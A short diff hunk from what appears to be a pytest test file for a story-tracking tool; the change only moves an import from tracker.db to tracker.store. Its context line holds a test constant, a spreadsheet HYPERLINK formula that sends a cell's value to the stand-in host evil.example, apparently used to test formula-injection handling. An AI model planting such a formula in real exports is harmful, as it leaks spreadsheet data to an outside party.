@@ -216,7 +216,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 @pytest.fixture()
 def story_db(db_path: Path) -> Path:
     """Two stories: 1 (facial recognition, two outlets, one title a formula) and 2 (cookies)."""
-    from tracker.db import open_db
+    from tracker.store import open_db
 
     db = open_db(db_path)
     db.conn.executemany(
